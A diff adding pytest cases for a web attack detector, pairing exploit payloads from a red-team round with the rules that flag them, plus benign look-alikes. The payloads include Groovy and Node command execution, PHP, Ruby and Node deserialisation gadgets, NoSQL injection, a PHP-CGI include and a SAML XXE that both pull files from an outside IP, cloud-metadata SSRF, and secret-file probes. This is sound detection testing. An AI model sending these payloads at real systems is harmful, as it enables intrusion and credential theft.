@@ -671,3 +671,125 @@ def test_host_names_are_learned_from_several_clients_when_not_configured() -> No
     configured = WebAttackSignatures(WebAttackConfig(site_hosts=("evil.example",)))
     configured.learn(learned("portal.aldmere.city", "a"))
     assert configured.snapshot_model() is None, "configured names are not learned over"
+
+
+def _rules(event: Event, detector: WebAttackSignatures = DETECTOR) -> set[str]:
+    return {h.rule_id.removeprefix("web.") for h in detector.inspect(event)}
+
+
+def api_text(body: str) -> Event:
+    ctype = (("Content-Type", "application/json"),)
+    return _event("/api/v1/search", method="POST", body=body, headers=ctype)
+
+
+def _multipart(fields: dict[str, str]) -> Event:
+    body = "".join(
+        f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
+        for name, value in fields.items()
+    )
+    ctype = (("Content-Type", "multipart/form-data; boundary=b"),)
+    return _event("/", method="POST", body=body + "--b--\r\n", headers=ctype)
+
+
+_SAML_XXE = (
+    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://45.134.26.77/s.dtd">%d;]>'
+    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>'
+)
+ROUND_TWO: list[tuple[str, Event]] = [
+    # exploits of the second red-team round, each by the rule that now names it
+    ("cmdi.code", form('println "id".execute().text', "script")),  # Jenkins script console
+    ("cmdi.code", form("throw new Exception('id'.execute().text);", "groovyProgram")),  # OFBiz
+    ("cmdi.code", raw("s=/Index/\\think\\app/invokefunction&function=call_user_func_array")),
+    ("cmdi.substitution", xml("<language>$(id>webLib/c)</language>")),  # Hikvision
+    ("ssti.code", form("<%= global.process.mainModule.require('child_process').execSync('id') %>")),
+    ("ssti.code", form('@{ var s = System.IO.File.ReadAllText("C:\\\\web.config"); }@s', "note")),
+    ("ssti.class-binding", form(".jsp", "class.module.classLoader.resources.context.parent")),
+    (
+        "deserialisation.php",
+        header("Cookie", "remember_web=" + _b64(b'O:40:"Illuminate\\Bus":0:{}')),
+    ),
+    (
+        "deserialisation.ruby",
+        header(
+            "Cookie",
+            "s=" + _b64(b"\x04\x08o:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy"),
+        ),
+    ),
+    (
+        "deserialisation.gadget",
+        form('{"as ":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":{}}}', "config"),
+    ),
+    (
+        "deserialisation.nodejs",
+        _multipart({"0": '{"then":"$1:__proto__:then","status":"resolved_model"}'}),
+    ),
+    ("nosqli.operator-name", api({"pipeline": [{"$match": {}}, {"$out": "users"}]})),
+    ("nosqli.where", api({"map": "function(){emit(this.username,this.password_hash)}"})),
+    ("nosqli.where", api({"script": {"source": "doc['password_hash'].value.startsWith('$2b')"}})),
+    ("nosqli.where", form('admin"; while(true){}; var x="', "username")),
+    ("protocol.json-duplicate-key", api_text('{"name":"oops","roles":["_admin"],"roles":[]}')),
+    (
+        "protocol.graphql-batch",
+        api([{"query": f'mutation{{login(u:"admin",p:"{i}"){{t}}}}'} for i in range(10)]),
+    ),
+    ("protocol.mail-injection", form("ana@gmail.com\nBcc: list@spam.example", "email")),
+    ("protocol.ip-spoofing", header("X-Forwarded-For", "127.0.0.1")),
+    ("protocol.ip-spoofing", header("X-Custom-IP-Authorization", "10.0.0.1")),
+    ("protocol.auth-bypass", header("x-middleware-subrequest", "middleware:middleware")),
+    ("protocol.method-override", _event("/api/v1/complaints/4411?_method=DELETE", method="POST")),
+    ("rfi.php-cgi", raw("-d+allow_url_include%3Don+-d+auto_prepend_file%3Dhttp://45.134.26.77/s")),
+    ("ssrf.metadata", header("X-Wap-Profile", "http://169.254.169.254/latest/meta-data/hostname")),
+    (
+        "ssrf.internal",
+        xml(
+            "<a xmlns='http://www.w3.org/1' b='http://www.w3.org/2' c='http://"
+            "www.w3.org/3' d='http://www.w3.org/4' e='http://www.w3.org/5'>"
+            "<x URI='http://127.0.0.1:8090/api/v1/license'/></a>"
+        ),
+    ),  # after 4 URLs
+    ("xxe.external-entity", form(_b64(_SAML_XXE.encode()), "SAMLResponse")),
+    ("scanner.oast", header("True-Client-IP", "x9k2m.oastify.com")),
+    ("scanner.graphql-introspection", api({"query": "query{__schema{types{name}}}"})),
+    ("scanner.secret-file", _event("/s/cfx/_/;/WEB-INF/web.xml")),
+    ("scanner.secret-file", _event("/storage/logs/laravel.log")),
+    ("scanner.admin-probe", _event("/manager/text/list")),
+    ("scanner.admin-probe", _event("/ReportServer/Pages/ReportViewer.aspx")),
+]
+ROUND_TWO_BENIGN: list[Event] = [
+    form("The kiosk says 'C:\\Windows\\System32\\cmd.exe is not responding' again"),
+    form("Your docs link points to http://localhost:8080/docs which fails from outside"),
+    form('I will execute() the plan, and "execute" it well'),
+    form("while (the road is closed) we wait; see doc[3] in the annex"),
+    form("Subject: pothole\nTo: the mayor\nThe hole on Ilica is back."),  # multi-line text
+    form("@{office} hours: 50% off <% sure %>"),
+    api({"roles": ["reader"], "name": "Ana", "items": [{"a": 1}, {"a": 2}]}),
+    api([{"query": f"mutation{{addItem(n:{i}){{id}}}}"} for i in range(3)]),
+    header("X-Forwarded-For", "203.0.113.7, 10.0.0.5"),
+    form("ana.kovac@gmail.com", "email"),
+    q("PDF version please", "note"),
+    _event("/documents/2025/web-info.pdf"),
+    raw("_method=GET&page=2"),  # asks for the method it came with
+]
+
+
+@pytest.mark.parametrize(("rule", "event"), ROUND_TWO)
+def test_second_round_exploits_hit_their_rule(rule: str, event: Event) -> None:
+    assert rule in RULES
+    assert rule in _rules(event), (event.payload, DETECTOR.inspect(event))
+
+
+@pytest.mark.parametrize("event", ROUND_TWO_BENIGN)
+def test_second_round_look_alikes_do_not_hit(event: Event) -> None:
+    assert DETECTOR.inspect(event) == [], event.payload
+
+
+def test_a_foreign_host_in_forwarded_or_a_host_override_header_is_flagged() -> None:
+    detector = WebAttackSignatures(WebAttackConfig(site_hosts=("portal.aldmere.city",)))
+    for name, value in (
+        ("Forwarded", "host=evil-reset.example;proto=https"),
+        ("X-HTTP-Host-Override", "evil-reset.example"),
+    ):
+        assert _rules(header(name, value), detector) == {"protocol.proxy"}, name
+    own = header("Forwarded", "for=192.0.2.60;proto=https;host=portal.aldmere.city")
+    assert _rules(own, detector) == set()
+    assert _rules(header("Forwarded", "for=192.0.2.60;proto=https"), detector) == set()
